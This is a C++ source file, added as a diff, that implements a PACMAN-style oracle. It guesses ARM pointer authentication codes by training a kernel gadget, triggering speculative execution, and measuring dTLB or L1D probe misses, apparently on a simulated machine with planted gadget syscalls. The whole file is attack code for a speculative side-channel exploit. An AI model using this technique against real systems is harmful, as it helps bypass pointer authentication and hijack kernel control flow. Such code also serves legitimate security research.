@@ -1,0 +1,194 @@
+#include "oracle.hh"
+
+#include <algorithm>
+
+#include "base/logging.hh"
+#include "kernel/layout.hh"
+
+namespace pacman::attack
+{
+
+using namespace pacman::kernel;
+
+PacOracle::PacOracle(AttackerProcess &proc, const OracleConfig &cfg)
+    : proc_(proc), cfg_(cfg), evsets_(proc.machine())
+{
+}
+
+bool
+PacOracle::isTargetUsable(Addr target) const
+{
+    if (cfg_.channel == Channel::L1dSet) {
+        if (cfg_.kind != GadgetKind::Data)
+            return false; // instruction fetches do not touch the L1D
+        // The probed cache set must avoid the lines the trial itself
+        // touches: the cond/modifier and benign-data kernel lines
+        // live in set 0, and the argument arrays occupy the first
+        // few lines of whichever half their page parity selects.
+        const uint64_t line_set = evsets_.l1dSetOf(target);
+        return (line_set & 0xFF) > 4;
+    }
+    const uint64_t set = evsets_.dtlbSetOf(target);
+    for (uint64_t reserved : proc_.reservedDtlbSets()) {
+        if (set == reserved)
+            return false;
+    }
+    // The probe set must also differ from the reset pages' dTLB set
+    // (the reset stride aliases the cond page's sets).
+    const auto &kern = proc_.machine().kernel();
+    if (set == evsets_.dtlbSetOf(kern.condSlot()))
+        return false;
+    if (cfg_.kind != GadgetKind::Data) {
+        // The BTB-predicted page (benign_fn) must be a different page
+        // than the target, and its spill set must not be probed.
+        if (isa::pageNumber(isa::vaPart(target)) ==
+            isa::pageNumber(isa::vaPart(kern.benignFn()))) {
+            return false;
+        }
+        if (set == evsets_.dtlbSetOf(kern.benignFn()))
+            return false;
+    }
+    return true;
+}
+
+void
+PacOracle::setTarget(Addr target, uint64_t modifier)
+{
+    if (!isTargetUsable(target)) {
+        fatal("oracle: target 0x%llx collides with infrastructure "
+              "dTLB sets; pick a different page",
+              (unsigned long long)target);
+    }
+    target_ = isa::stripPac(target);
+    modifier_ = modifier;
+
+    auto &kern = proc_.machine().kernel();
+
+    // Argument arrays move away from the probed set.
+    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
+    const unsigned list_page = unsigned((probe_set + 100) % 256);
+    const unsigned out_page = unsigned((probe_set + 101) % 256);
+    proc_.placeArrays(list_page, out_page);
+
+    // Reset list: evict the guard-condition page's translation so
+    // the gadget's branch resolves late (long speculation window).
+    resetList_ = evsets_.l2tlbSet(evsets_.l2tlbSetOf(kern.condSlot()),
+                                  evsets_.l2tlbWays());
+
+    // Prime list: the target's set in the probed structure.
+    if (cfg_.channel == Channel::L1dSet) {
+        primeList_ = evsets_.l1dSet(evsets_.l1dSetOf(target_),
+                                    evsets_.l1dWays());
+    } else {
+        primeList_ = evsets_.dtlbSet(probe_set, evsets_.dtlbWays());
+    }
+
+    if (cfg_.kind != GadgetKind::Data) {
+        // Kernel iTLB eviction indices; never fetch the target's own
+        // trampoline page (if the target is one) — that would refill
+        // rather than spill its entry.
+        const uint64_t target_page = isa::pageNumber(isa::vaPart(target_));
+        trampIndices_.clear();
+        for (uint64_t idx : evsets_.trampolineIndicesFor(
+                 evsets_.itlbSetOf(target_), evsets_.itlbWays() + 1)) {
+            const uint64_t page = isa::pageNumber(
+                isa::vaPart(TrampolineBase)) + idx;
+            if (page != target_page)
+                trampIndices_.push_back(idx);
+        }
+        trampIndices_.resize(evsets_.itlbWays());
+    }
+
+    // Tell the gadget kext which modifier to authenticate against,
+    // then obtain a legitimately signed training pointer.
+    proc_.syscall(SYS_SET_MODIFIER, modifier_);
+    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
+                                   ? SYS_GET_LEGIT_DATA
+                                   : SYS_GET_LEGIT_INST;
+    legitPtr_ = proc_.syscall(legit_sys);
+}
+
+uint16_t
+PacOracle::gadgetSyscall() const
+{
+    switch (cfg_.kind) {
+      case GadgetKind::Data: return SYS_GADGET_DATA;
+      case GadgetKind::Instruction: return SYS_GADGET_INST;
+      case GadgetKind::Combined: return SYS_GADGET_BRAA;
+      default: panic("bad gadget kind");
+    }
+}
+
+void
+PacOracle::train()
+{
+    const uint16_t gadget = gadgetSyscall();
+    proc_.syscall(SYS_SET_COND, 1);
+    for (unsigned i = 0; i < cfg_.trainIters; ++i)
+        proc_.syscall(gadget, legitPtr_);
+}
+
+unsigned
+PacOracle::probeMisses(uint16_t guessed_pac)
+{
+    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
+    const uint16_t gadget = gadgetSyscall();
+
+    proc_.machine().injectNoise();
+
+    // (1) Train the guard branch (and BTB) with the legit pointer.
+    train();
+
+    // (2) Disarm the architectural path.
+    proc_.syscall(SYS_SET_COND, 0);
+
+    // (3) Reset: open the speculation window.
+    if (!cfg_.skipReset)
+        proc_.loadAll(resetList_);
+
+    // (4) Prime the target's dTLB set.
+    proc_.loadAll(primeList_);
+
+    proc_.machine().injectNoise();
+
+    // (5) Fire the gadget with the guessed signed pointer.
+    const uint64_t guess_ptr = isa::withExt(target_, guessed_pac);
+    proc_.syscall(gadget, guess_ptr);
+    ++queries_;
+
+    // (6) Instruction-fetch gadgets: spill the (possibly) filled
+    // kernel iTLB entry into the shared dTLB.
+    if (cfg_.kind != GadgetKind::Data) {
+        for (uint64_t idx : trampIndices_)
+            proc_.syscall(SYS_FETCH_TRAMP, idx);
+    }
+
+    // (7) Probe.
+    unsigned misses = 0;
+    for (uint64_t count : proc_.probeAll(primeList_)) {
+        if (count > cfg_.latencyThreshold)
+            ++misses;
+    }
+    return misses;
+}
+
+bool
+PacOracle::testPac(uint16_t guessed_pac)
+{
+    return probeMisses(guessed_pac) >= cfg_.missThreshold;
+}
+
+bool
+PacOracle::testPacSampled(uint16_t guessed_pac, unsigned samples)
+{
+    PACMAN_ASSERT(samples >= 1, "need at least one sample");
+    std::vector<unsigned> misses;
+    misses.reserve(samples);
+    for (unsigned i = 0; i < samples; ++i)
+        misses.push_back(probeMisses(guessed_pac));
+    std::sort(misses.begin(), misses.end());
+    const unsigned median = misses[misses.size() / 2];
+    return median >= cfg_.missThreshold;
+}
+
+} // namespace pacman::attack
